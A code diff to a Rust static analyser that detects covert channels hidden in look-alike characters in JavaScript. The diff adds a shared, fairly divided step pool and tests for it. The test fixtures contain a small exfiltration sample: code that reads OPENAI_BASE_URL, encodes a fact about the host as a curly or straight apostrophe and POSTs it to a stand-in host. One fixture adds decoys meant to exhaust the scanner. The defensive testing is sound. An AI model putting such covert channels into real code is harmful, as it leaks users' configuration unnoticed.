@@ -68,6 +68,9 @@ pub(crate) struct Output {
     /// Why the analysis of each unit is not complete (a flow budget ran
     /// out while following one of its values), in the order of the units.
     pub incomplete: Vec<Vec<Incomplete>>,
+    /// The program's pool of steps and how much of it was spent.
+    pub pool: u64,
+    pub spent: u64,
 }
 
 /// PS1xx over one unit.
@@ -91,6 +94,8 @@ pub(crate) fn analyze_program<'a>(units: &[&Ctx<'a>]) -> Output {
     let mut out = Output {
         findings: (0..units.len()).map(|_| Vec::new()).collect(),
         incomplete: (0..units.len()).map(|_| Vec::new()).collect(),
+        pool: 0,
+        spent: 0,
     };
     if all_seeds.is_empty() {
         return out;
@@ -105,175 +110,71 @@ pub(crate) fn analyze_program<'a>(units: &[&Ctx<'a>]) -> Output {
     all_seeds.sort_by_key(Seed::rank);
     let stats = std::env::var_os("PLAINSIGHT_FLOW_STATS").is_some();
     let t0 = std::time::Instant::now();
-    let (mut walk_states, mut decisions_n, mut judged_n, mut taint_t) =
-        (0usize, 0usize, 0usize, std::time::Duration::ZERO);
+    let mut st = Stats::default();
     let mut reports: HashMap<(UnitId, NodeId), Report> = HashMap::new();
-    let mut judged_cache: HashMap<(UnitId, NodeId, UnitId, NodeId, u64, bool), Option<Judged>> =
-        HashMap::new();
-    let limits = eng.limits;
-    // (unit, 1 = carrier walk / 2 = decision's sources, place, limit reached)
-    let mut exhausted: Vec<(UnitId, u32, Span, &'static str)> = Vec::new();
-    for seed in &all_seeds {
-        eng.take_cut();
-        // Near the carrier first: the choice between imperceptible variants
-        // is made close to them. Only a carrier met by such a choice is
-        // followed further (to its sinks and any further decisions).
-        let mut w = Walker::new(&eng, Mode::Carrier, limits.near_steps);
-        for &s in &seed.starts {
-            w.start(seed.unit, s, crate::flow::walk::Fields::default());
-        }
-        w.run();
-        if w.exhausted && !matches!(seed.kind, SeedKind::Computed { .. } | SeedKind::Format(_)) {
-            let any = w.events.iter().any(|(_, ev)| {
-                let Event::Decision(d) = ev else { return false };
-                let jkey = judge_key(d);
-                let judged = if let Some(j) = judged_cache.get(&jkey) {
-                    j.clone()
-                } else {
-                    let j = judge_decision(&prog, seed, d);
-                    judged_cache.insert(jkey, j.clone());
-                    j
-                };
-                judged.is_some() || format_choice(&prog, &w, d).is_some()
-            });
-            if !any {
-                continue;
-            }
-        }
-        if w.exhausted {
-            w.extend(limits.walk_steps.saturating_sub(limits.near_steps));
-        }
-        walk_states += w.states.len();
-        let code_point = w.events.iter().any(|(_, e)| matches!(e, Event::CodePoint));
-        let seed_decisions = synthesized(seed, code_point);
-        let cut = if w.exhausted {
-            Some("walk_steps")
-        } else {
-            eng.take_cut()
-        };
-        if let Some(limit) = cut {
-            let ctx = prog.ctx(seed.unit);
-            exhausted.push((
-                seed.unit,
-                1,
-                ctx.semantic.nodes().kind(seed.node).span(),
-                limit,
-            ));
-        }
-        let mut decisions: Vec<Decision<'a>> = seed_decisions;
-        for (_, ev) in &w.events {
-            if let Event::Decision(d) = ev {
-                decisions.push(d.clone());
-            }
-        }
-        let dbg = std::env::var_os("PLAINSIGHT_FLOW_DEBUG").is_some();
-        if dbg {
-            eprintln!(
-                "seed {:?} at {:?}: {} states, {} events, exhausted {}",
-                seed.kind,
-                seed.node,
-                w.states.len(),
-                w.events.len(),
-                w.exhausted
-            );
-        }
-        for d in decisions {
-            if dbg {
-                eprintln!(
-                    "  decision site {:?} test {:?} alts {:?}",
-                    d.site,
-                    d.test.kind_name(),
-                    d.alts
-                );
-            }
-            let key = (d.unit, d.site);
-            if reports.get(&key).is_some_and(|r| r.complete) {
-                continue;
-            }
-            decisions_n += 1;
-            // The same merge point is met by many carriers: judged once.
-            let jkey = judge_key(&d);
-            let judged = if let Some(j) = judged_cache.get(&jkey) {
-                j.clone()
-            } else {
-                let j = judge_decision(&prog, seed, &d);
-                judged_cache.insert(jkey, j.clone());
-                j
-            };
-            // Separators chosen for text (digit grouping, date parts): a format
-            // variant when the walk saw them put between fields.
-            let judged = judged.or_else(|| format_choice(&prog, &w, &d));
-            let Some(j) = judged else {
-                continue;
-            };
-            let tests = expand_tests(prog.ctx(d.unit), &d.test, &j);
-            if tests.is_empty() {
-                continue;
-            }
-            judged_n += 1;
-            let tt = std::time::Instant::now();
-            eng.take_cut();
-            let mut taint = Taint::default();
-            for t in &tests {
-                let more = eng.taint(d.unit, t, &d.frames);
-                for r in more.reads {
-                    if !taint
-                        .reads
-                        .iter()
-                        .any(|x| x.unit == r.unit && x.read.span == r.read.span)
-                    {
-                        taint.reads.push(r);
-                    }
+    let mut judged_cache: JudgedCache = HashMap::new();
+    // One pool of steps for the whole program, proportional to its size:
+    // every site gets a share of it in rounds (see `FlowLimits::pool_steps_per_kb`).
+    let bytes: u64 = units.iter().map(|c| c.source.len() as u64).sum();
+    let pool = pool_steps(&eng.base, bytes);
+    eng.set_pool(pool);
+    // The cuts of each site's last attempt: (1 = carrier walk / 2 = a
+    // decision's sources, place, limit reached).
+    let mut cuts: Vec<Vec<(u32, Span, &'static str)>> = vec![Vec::new(); all_seeds.len()];
+    let mut pending: Vec<usize> = (0..all_seeds.len()).collect();
+    let mut scale = 1u32;
+    let mut rounds = 0u32;
+    loop {
+        rounds += 1;
+        eng.set_round(scale);
+        let mut next = Vec::new();
+        let mut left = pending.len() as u64;
+        for &i in &pending {
+            // The site's share: an equal part of what is left; what it does
+            // not use goes to the sites after it and to the next round.
+            let share = (eng.pool_left() / left.max(1)).max(1);
+            left -= 1;
+            eng.set_share(share);
+            let seed = &all_seeds[i];
+            if eng.pool_left() == 0 {
+                if cuts[i].is_empty() {
+                    let span = prog.ctx(seed.unit).semantic.nodes().kind(seed.node).span();
+                    cuts[i].push((1, span, "flow_pool"));
                 }
-                taint.opaque |= more.opaque;
-                taint.exhausted |= more.exhausted;
+                next.push(i);
+                continue;
             }
-            taint_t += tt.elapsed();
-            if dbg {
-                eprintln!(
-                    "    judged {:?} {:?}/{:?}; reads {:?} opaque {}",
-                    j.rule,
-                    j.a,
-                    j.b,
-                    taint
-                        .reads
-                        .iter()
-                        .map(|r| (&r.read.what, r.unproven, r.path.len()))
-                        .collect::<Vec<_>>(),
-                    taint.opaque
-                );
-            }
-            let cut = if taint.exhausted {
-                Some("query_steps")
+            let c = attempt(&prog, &eng, seed, &mut judged_cache, &mut reports, &mut st);
+            if c.is_empty() {
+                cuts[i].clear();
             } else {
-                eng.take_cut()
-            };
-            if let Some(limit) = cut {
-                exhausted.push((
-                    d.unit,
-                    2,
-                    prog.ctx(d.unit).semantic.nodes().kind(d.site).span(),
-                    limit,
-                ));
+                cuts[i] = c;
+                next.push(i);
             }
-            let sinks = downstream_sinks(&w, &d);
-            let local = downstream_local(&w, &d);
-            let walk_unproven = w.unproven(d.state);
-            let cand = Candidate {
-                judged: j,
-                taint,
-                sink: sinks,
-                local,
-                walk_unproven,
-                decision: d,
-                path: Vec::new(),
-            };
-            let cand = Candidate {
-                path: describe_walk(&prog, &w, cand.decision.state),
-                ..cand
-            };
-            merge_candidate(&mut reports, key, cand);
         }
+        pending = next;
+        if pending.is_empty() || eng.pool_left() == 0 || scale >= MAX_SCALE {
+            break;
+        }
+        scale = scale.saturating_mul(4);
+    }
+    eng.set_share(u64::MAX);
+    let mut exhausted: Vec<(UnitId, u32, Span, &'static str)> = Vec::new();
+    for &i in &pending {
+        for &(k, span, limit) in &cuts[i] {
+            exhausted.push((all_seeds[i].unit, k, span, limit));
+        }
+    }
+    out.pool = pool;
+    out.spent = eng.spent.get();
+    let (walk_states, decisions_n, judged_n, taint_t) =
+        (st.walk_states, st.decisions, st.judged, st.taint);
+    if stats {
+        eprintln!(
+            "flow stats: {rounds} rounds (last scale {scale}), pool {pool}, spent {}, {} sites cut",
+            eng.spent.get(),
+            pending.len()
+        );
     }
     if stats {
         let mut kinds = [0usize; 4];
@@ -324,6 +225,203 @@ pub(crate) fn analyze_program<'a>(units: &[&Ctx<'a>]) -> Output {
         ));
     }
     out
+}
+
+/// Largest scale of the step limits a round reaches (4^6 = 4096 times the
+/// configured ones); the pool bounds the total anyway.
+const MAX_SCALE: u32 = 4096;
+
+type JudgedCache = HashMap<(UnitId, NodeId, UnitId, NodeId, u64, bool), Option<Judged>>;
+
+#[derive(Default)]
+struct Stats {
+    walk_states: usize,
+    decisions: usize,
+    judged: usize,
+    taint: std::time::Duration,
+}
+
+/// The program's pool of steps: `pool_steps_per_kb` per KiB of source, at
+/// least `walk_steps` times 64.
+fn pool_steps(l: &crate::flow::FlowLimits, bytes: u64) -> u64 {
+    (u64::from(l.pool_steps_per_kb) * bytes.div_ceil(1024)).max(u64::from(l.walk_steps) * 64)
+}
+
+/// One attempt at one carrier site with the limits of the round: its walk,
+/// the decisions met, their sources. Findings go to `reports` (a later,
+/// larger attempt only adds to them). Returns what cut the attempt (empty
+/// when it is complete).
+fn attempt<'a>(
+    prog: &Program<'_, 'a>,
+    eng: &Engine<'_, '_, 'a>,
+    seed: &Seed<'a>,
+    judged_cache: &mut JudgedCache,
+    reports: &mut HashMap<(UnitId, NodeId), Report<'a>>,
+    st: &mut Stats,
+) -> Vec<(u32, Span, &'static str)> {
+    let limits = eng.limits();
+    let mut cuts = Vec::new();
+    eng.take_cut();
+    // Near the carrier first: the choice between imperceptible variants
+    // is made close to them. Only a carrier met by such a choice is
+    // followed further (to its sinks and any further decisions).
+    let mut w = Walker::new(eng, Mode::Carrier, limits.near_steps);
+    for &s in &seed.starts {
+        w.start(seed.unit, s, crate::flow::walk::Fields::default());
+    }
+    w.run();
+    if w.exhausted
+        && eng.pool_left() > 0
+        && eng.share_left() > 0
+        && !matches!(seed.kind, SeedKind::Computed { .. } | SeedKind::Format(_))
+    {
+        let any = w.events.iter().any(|(_, ev)| {
+            let Event::Decision(d) = ev else { return false };
+            let jkey = judge_key(d);
+            let judged = if let Some(j) = judged_cache.get(&jkey) {
+                j.clone()
+            } else {
+                let j = judge_decision(prog, seed, d);
+                judged_cache.insert(jkey, j.clone());
+                j
+            };
+            judged.is_some() || format_choice(prog, &w, d).is_some()
+        });
+        if !any {
+            return cuts;
+        }
+    }
+    if w.exhausted {
+        w.extend(limits.walk_steps.saturating_sub(limits.near_steps));
+    }
+    st.walk_states += w.states.len();
+    let code_point = w.events.iter().any(|(_, e)| matches!(e, Event::CodePoint));
+    let seed_decisions = synthesized(seed, code_point);
+    let inner = eng.take_cut();
+    let cut = if w.exhausted && inner.is_none() {
+        Some("walk_steps")
+    } else {
+        inner
+    };
+    if let Some(limit) = cut {
+        let ctx = prog.ctx(seed.unit);
+        cuts.push((1, ctx.semantic.nodes().kind(seed.node).span(), limit));
+    }
+    let mut decisions: Vec<Decision<'a>> = seed_decisions;
+    for (_, ev) in &w.events {
+        if let Event::Decision(d) = ev {
+            decisions.push(d.clone());
+        }
+    }
+    let dbg = std::env::var_os("PLAINSIGHT_FLOW_DEBUG").is_some();
+    if dbg {
+        eprintln!(
+            "seed {:?} at {:?}: {} states, {} events, exhausted {}",
+            seed.kind,
+            seed.node,
+            w.states.len(),
+            w.events.len(),
+            w.exhausted
+        );
+    }
+    for d in decisions {
+        if dbg {
+            eprintln!(
+                "  decision site {:?} test {:?} alts {:?}",
+                d.site,
+                d.test.kind_name(),
+                d.alts
+            );
+        }
+        let key = (d.unit, d.site);
+        if reports.get(&key).is_some_and(|r| r.complete) {
+            continue;
+        }
+        st.decisions += 1;
+        // The same merge point is met by many carriers: judged once.
+        let jkey = judge_key(&d);
+        let judged = if let Some(j) = judged_cache.get(&jkey) {
+            j.clone()
+        } else {
+            let j = judge_decision(prog, seed, &d);
+            judged_cache.insert(jkey, j.clone());
+            j
+        };
+        // Separators chosen for text (digit grouping, date parts): a format
+        // variant when the walk saw them put between fields.
+        let judged = judged.or_else(|| format_choice(prog, &w, &d));
+        let Some(j) = judged else {
+            continue;
+        };
+        let tests = expand_tests(prog.ctx(d.unit), &d.test, &j);
+        if tests.is_empty() {
+            continue;
+        }
+        st.judged += 1;
+        let tt = std::time::Instant::now();
+        eng.take_cut();
+        let mut taint = Taint::default();
+        for t in &tests {
+            let more = eng.taint(d.unit, t, &d.frames);
+            for r in more.reads {
+                if !taint
+                    .reads
+                    .iter()
+                    .any(|x| x.unit == r.unit && x.read.span == r.read.span)
+                {
+                    taint.reads.push(r);
+                }
+            }
+            taint.opaque |= more.opaque;
+            taint.exhausted |= more.exhausted;
+        }
+        st.taint += tt.elapsed();
+        if dbg {
+            eprintln!(
+                "    judged {:?} {:?}/{:?}; reads {:?} opaque {}",
+                j.rule,
+                j.a,
+                j.b,
+                taint
+                    .reads
+                    .iter()
+                    .map(|r| (&r.read.what, r.unproven, r.path.len()))
+                    .collect::<Vec<_>>(),
+                taint.opaque
+            );
+        }
+        let inner = eng.take_cut();
+        let cut = if taint.exhausted && inner.is_none() {
+            Some("query_steps")
+        } else {
+            inner
+        };
+        if let Some(limit) = cut {
+            cuts.push((
+                2,
+                prog.ctx(d.unit).semantic.nodes().kind(d.site).span(),
+                limit,
+            ));
+        }
+        let sinks = downstream_sinks(&w, &d);
+        let local = downstream_local(&w, &d);
+        let walk_unproven = w.unproven(d.state);
+        let cand = Candidate {
+            judged: j,
+            taint,
+            sink: sinks,
+            local,
+            walk_unproven,
+            decision: d,
+            path: Vec::new(),
+        };
+        let cand = Candidate {
+            path: describe_walk(prog, &w, cand.decision.state),
+            ..cand
+        };
+        merge_candidate(reports, key, cand);
+    }
+    cuts
 }
 
 fn chain_prefix(chain: &[String]) -> String {
@@ -2120,6 +2218,112 @@ fn node_at(ctx: &Ctx<'_>, span: Span) -> Option<NodeId> {
 mod tests {
     use super::*;
     use crate::flow::walk::regex_literal_text;
+    use std::fmt::Write as _;
+
+    /// Covert-channel analysis of `src` with flow limits changed by `set`.
+    fn analyse_with(src: &str, set: &[(&str, u32)]) -> Output {
+        use oxc_allocator::Allocator;
+        use oxc_parser::Parser;
+        use oxc_semantic::SemanticBuilder;
+        use oxc_span::SourceType;
+        let alloc = Allocator::default();
+        let ret = Parser::new(&alloc, src, SourceType::mjs()).parse();
+        let program = alloc.alloc(ret.program);
+        let sem = SemanticBuilder::new()
+            .with_build_nodes(true)
+            .build(program)
+            .semantic;
+        let lines = crate::context::LineIndex::new(src);
+        let mut opts = crate::ScanOptions::default();
+        for (k, v) in set {
+            assert!(opts.flow.set(k, *v), "{k}");
+        }
+        let ctx = Ctx::new("t.js", &[], src, program, &sem, &lines, &opts);
+        analyze_program(&[&ctx])
+    }
+
+    /// Hundreds of decoy carriers, each chosen by a test and each followed
+    /// down one long shared chain, in front of one real channel: the pool is
+    /// shared fairly, so the decoys cannot spend the real site's share; the
+    /// real channel is found, total work stays within the pool, and the
+    /// decoys left unfinished make the unit partial (never clean).
+    #[test]
+    fn decoys_cannot_starve_the_real_site_and_work_stays_within_the_pool() {
+        let mut src = String::new();
+        let n = 300;
+        for i in 0..n {
+            writeln!(
+                src,
+                "const d{i} = Math.random() > 0.5 ? \"\\u2019\" : \"'\";"
+            )
+            .unwrap();
+        }
+        src.push_str("let c0 = \"\"");
+        for i in 0..n {
+            write!(src, " + d{i}").unwrap();
+        }
+        src.push_str(";\n");
+        for k in 1..3000 {
+            writeln!(src, "const c{k} = c{} + \" {k}\";", k - 1).unwrap();
+        }
+        src.push_str(
+            "const host = new URL(process.env.OPENAI_BASE_URL).host;\n\
+             const q = host.endsWith(\".corp\") ? \"\\u2019\" : \"'\";\n\
+             fetch(\"https://api.example/v1\", { method: \"POST\", body: \"It\" + q + \"s\" });\n",
+        );
+        // A pool far smaller than the decoys need (300 × 3,000 steps).
+        let out = analyse_with(&src, &[("pool_steps_per_kb", 1), ("walk_steps", 1000)]);
+        assert!(out.spent <= out.pool + 64, "{} > {}", out.spent, out.pool);
+        assert!(out.pool < 300 * 3000, "{}", out.pool);
+        let f = out.findings[0]
+            .iter()
+            .find(|f| f.rule == Rule::CovertLookAlike && f.message.contains("OPENAI_BASE_URL"))
+            .unwrap_or_else(|| panic!("{:#?}", out.findings[0]));
+        assert_eq!(f.severity, Severity::Critical);
+        assert!(
+            out.incomplete[0]
+                .iter()
+                .any(|r| r.kind == IncompleteKind::Budget && r.message.contains("flow_pool")),
+            "{:?}",
+            out.incomplete[0]
+        );
+    }
+
+    /// A site whose flow is longer than the first round's limits but within
+    /// the pool is finished in a later round: complete, not cut.
+    #[test]
+    fn leftover_pool_finishes_a_long_site_in_later_rounds() {
+        let mut src = String::from(
+            "const host = new URL(process.env.OPENAI_BASE_URL).host;\n\
+             const q = host.endsWith(\".corp\") ? \"\\u2019\" : \"'\";\n\
+             const v0 = \"It\" + q + \"s\";\n\
+             fetch(\"https://api.example/v1\", { method: \"POST\", body: v0 });\n",
+        );
+        for i in 1..6000 {
+            writeln!(src, "const v{i} = v{} + \" {i}\";", i - 1).unwrap();
+        }
+        let out = analyse_with(&src, &[]);
+        assert!(out.incomplete[0].is_empty(), "{:?}", out.incomplete[0]);
+        assert!(
+            out.findings[0]
+                .iter()
+                .any(|f| f.rule == Rule::CovertLookAlike && f.severity == Severity::Critical),
+            "{:#?}",
+            out.findings[0]
+        );
+        // The same file with a pool too small for it: partial, naming the place.
+        let out = analyse_with(&src, &[("pool_steps_per_kb", 1), ("walk_steps", 100)]);
+        assert!(out.spent <= out.pool + 64, "{} > {}", out.spent, out.pool);
+        assert!(
+            out.incomplete[0]
+                .iter()
+                .any(|r| r.kind == IncompleteKind::Budget
+                    && r.message.starts_with("t.js:2:")
+                    && r.message.contains("flow_pool")),
+            "{:?}",
+            out.incomplete[0]
+        );
+    }
 
     #[test]
     fn prefilter_never_rejects_an_imperceptible_pair() {
